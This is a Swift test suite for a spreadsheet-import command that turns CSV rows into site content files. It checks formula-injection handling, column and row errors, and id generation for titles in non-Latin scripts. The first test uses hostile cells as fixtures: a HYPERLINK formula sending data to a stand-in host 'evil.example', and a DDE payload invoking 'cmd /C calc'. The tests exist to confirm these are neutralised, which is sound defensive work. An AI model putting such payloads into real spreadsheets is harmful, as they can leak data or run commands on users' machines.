import ContentModel
import Diagnostics
import Foundation
import Testing

@testable import Scaffolding

/// `avance import` with careless and hostile spreadsheets (issue 19): cells that are
/// spreadsheet formulas, a wrong column together with wrong rows, titles in other scripts.
@Suite struct ImportHardeningTests {
    func run(_ text: String, collection: String = "proyectos", map: [String] = [], _ name: String) throws -> (
        ImportResult, String
    ) {
        let root = try TestSites.quito(name)
        let file = root + "/matriz.csv"
        try text.write(toFile: file, atomically: true, encoding: .utf8)
        var options = ImportOptions(root: root, collection: collection, file: file, displayPath: "matriz.csv")
        options.map = map
        return (SpreadsheetImport.run(options), root)
    }

    func at(_ row: Int, _ column: Int) -> Diagnostics.SourceLocation {
        SourceLocation(file: "matriz.csv", line: row, column: column)
    }

    @Test func aCellThatStartsLikeAFormulaIsKeptAsTextWithAWarningAtItsCell() throws {
        let (result, root) = try run(
            "titulo,sigla\n\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",@SUM(1+1)*cmd|' /C calc'!A0\n"
                + "Dos,-\nTres,+1+1\n",
            collection: "socios", "import-formula")
        defer { try? FileManager.default.removeItem(atPath: root) }
        #expect(result.diagnostics.map(\.code) == ["cell-formula", "cell-formula", "cell-formula"])
        #expect(result.diagnostics.map(\.severity) == [.warning, .warning, .warning])
        #expect(result.diagnostics.map(\.location) == [at(2, 1), at(2, 2), at(4, 2)])
        #expect(
            result.diagnostics[0].message
                == "the cell `=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")` starts with `=`, "
                + "as a spreadsheet formula does: it is kept as text")
        #expect(
            result.diagnostics[0].hint
                == "if the spreadsheet exported a formula instead of its value, paste the values "
                + "(Paste special → Values) and export again; the site's CSV downloads put a `'` before it, "
                + "so that spreadsheets show it as text")
        #expect(result.exitCode == 0)
        #expect(
            TestSites.read(root, "content/socios/hyperlink-http-evil-example-a1-click.md")
                == "---\ntitulo: \"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Click\\\")\"\n"
                + "sigla: \"@SUM(1+1)*cmd|' /C calc'!A0\"\n---\n")
        #expect(TestSites.read(root, "content/socios/tres.md") == "---\ntitulo: Tres\nsigla: \"+1+1\"\n---\n")
    }

    @Test(arguments: ["-3", "+4,5", "-", "a=b", "1-1"])
    func numbersAndOtherCellsAreNotFormulas(cell: String) throws {
        let field = Field(name: "sigla", type: .string)
        #expect(RowImporter.formula(cell, field: field, at: at(2, 2)) == nil)
    }

    @Test func anUnknownColumnAndTheRowsErrorsAreReportedInOneRun() throws {
        let (result, root) = try run(
            "Título,Estado,Estdo de avance,Eje\nUno,en marcha,40,Territorio seguro\nDos,en marchaa,,\n",
            "import-unknown-and-rows")
        defer { try? FileManager.default.removeItem(atPath: root) }
        #expect(result.diagnostics.map(\.code) == ["column-unknown", "ref-unknown", "enum-unknown"])
        #expect(result.diagnostics.map(\.location) == [at(1, 3), at(2, 4), at(3, 2)])
        #expect(result.columnErrors)
        #expect(result.skippedRows == [2, 3])
        #expect(!result.wrote)
        #expect(result.exitCode == 1)
        // --skip-invalid writes nothing while a column is wrong: that column's data would be lost.
        let (skipping, other) = try run(
            "Título,Estado,Estdo de avance\nUno,en marcha,40\n", "import-unknown-skip")
        defer { try? FileManager.default.removeItem(atPath: other) }
        #expect(skipping.diagnostics.map(\.code) == ["column-unknown"])
        #expect(skipping.entries.isEmpty && !skipping.wrote)
    }

    @Test func aMissingColumnIsReportedOnceNotInEveryRow() throws {
        let (result, root) = try run("titulo,eje\nUno,Territorio seguro y reflexivo\nDos,Ejje\n", "import-missing")
        defer { try? FileManager.default.removeItem(atPath: root) }
        #expect(result.diagnostics.map(\.code) == ["column-missing", "ref-unknown"])
        #expect(result.diagnostics.map(\.location) == [at(1, 1), at(3, 2)])
    }

    @Test func theSummaryNamesTheColumnsAndTheRows() throws {
        try #require(TestSites.executable != nil, "build the avance product first")
        let root = try TestSites.quito("import-summary")
        defer { try? FileManager.default.removeItem(atPath: root) }
        try "Título,Estado,Código\nUno,en marchaa,A\n".write(
            toFile: root + "/matriz.csv", atomically: true, encoding: .utf8)
        let result = try TestSites.run(["import", "proyectos", root + "/matriz.csv", "--root", root])
        #expect(result.status == 1)
        #expect(result.err.contains("error[column-unknown]: the column `Código` matches no field of `proyectos`\n"))
        #expect(result.err.contains("/matriz.csv:1:3\n"))
        #expect(result.err.contains("error[enum-unknown]: `en marchaa` is not a value of `estado`\n"))
        #expect(result.err.contains("/matriz.csv:2:2 (estado)\n"))
        #expect(
            result.err.hasSuffix(
                "nothing written: the columns of the header row have errors, and row 2 has errors (fix them first)\n"))
    }

    @Test func aTitleInAnotherScriptAsksForAnIDColumn() throws {
        let (result, root) = try run("titulo,estado\n日本語のタイトル,en marcha\nПроект 2,en marcha\n", "import-script")
        defer { try? FileManager.default.removeItem(atPath: root) }
        #expect(result.diagnostics.map(\.code) == ["id-invalid", "id-invalid"])
        #expect(result.diagnostics.map(\.location) == [at(2, 1), at(3, 1)])
        #expect(
            result.diagnostics[0].message
                == "the title `日本語のタイトル` gives no id: ids use the Latin letters a–z, digits and hyphens, "
                + "and the title has no Latin letters")
        #expect(
            result.diagnostics[0].hint
                == "write the entry's file name in a column `id` (such as `proyecto-1`), "
                + "or send a column there with --map '<column>=id'")
        #expect(result.exitCode == 1)
    }

    @Test func anIDColumnNamesTheFiles() throws {
        let (result, root) = try run(
            "id,titulo,estado\nnihongo,日本語のタイトル,en marcha\n,Huertos,en marcha\nMal Id,Otro,en marcha\n"
                + "rcn-visa,Copia,en marcha\nnihongo,Otra vez,en marcha\n",
            "import-id-column")
        defer { try? FileManager.default.removeItem(atPath: root) }
        #expect(result.diagnostics.map(\.code) == ["id-invalid", "entry-exists", "entry-exists"])
        #expect(result.diagnostics.map(\.location) == [at(4, 1), at(5, 1), at(6, 1)])
        #expect(result.diagnostics[0].message == "`Mal Id` is not a valid entry id")
        #expect(
            result.diagnostics[1].message
                == "row 5 gives the id `rcn-visa`, and `content/proyectos/rcn-visa.md` already exists "
                + "(its title is `Ciudades Resilientes Formando un Mundo Digital (RCN-Visa)`)")
        #expect(result.diagnostics[2].message == "row 6 gives the id `nihongo`, which an earlier row gives too")
        #expect(result.entries.map(\.id) == [])
        let (written, other) = try run(
            "ID,titulo,estado\nnihongo,日本語のタイトル,en marcha\n,Huertos,en marcha\n", "import-id-column-ok")
        defer { try? FileManager.default.removeItem(atPath: other) }
        #expect(written.diagnostics.isEmpty)
        #expect(written.entries.map(\.id) == ["nihongo", "huertos"])
        #expect(
            TestSites.read(other, "content/proyectos/nihongo.md") == "---\ntitulo: 日本語のタイトル\nestado: en-marcha\n---\n")
    }

    @Test(arguments: [
        ("Straße der Ærø-Łódź", "strasse-der-aero-lodz"), ("日本語のタイトル", ""), ("Проект 2", "2"),
        ("Plan de gestión", "plan-de-gestion"),
    ])
    func idsSpellLatinLettersInASCIIAndDropOtherScripts(title: String, id: String) {
        #expect(EntryID.make(from: title) == id)
    }

    @Test func namesInOtherScriptsAreComparedToo() {
        #expect(NameKey.of("日本語の タイトル!") == "日本語の タイトル")
        #expect(NameKey.of("Título") == "titulo")
    }
}
